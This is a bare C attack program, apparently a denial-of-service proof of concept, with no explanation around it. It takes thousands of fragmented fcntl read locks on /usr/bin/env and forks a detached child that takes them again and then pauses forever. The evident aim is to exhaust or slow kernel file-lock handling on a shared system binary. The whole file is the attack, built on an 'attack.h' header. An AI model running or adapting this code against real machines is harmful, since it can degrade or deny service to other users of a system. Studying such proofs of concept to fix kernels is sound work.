#include "attack.h"

int main(void) {
  int fd = open("/usr/bin/env", O_RDONLY);
  long n = 0;
  for (; n < 3000; n++) { struct flock l = {.l_type = F_RDLCK, .l_start = n * 2, .l_len = 1}; if (fcntl(fd, F_SETLK, &l)) break; }
  if (fork() == 0) { setsid(); for (n = 0; n < 3000; n++) { struct flock l = {.l_type = F_RDLCK, .l_start = n * 2, .l_len = 1}; fcntl(fd, F_SETLK, &l); } pause(); }
}
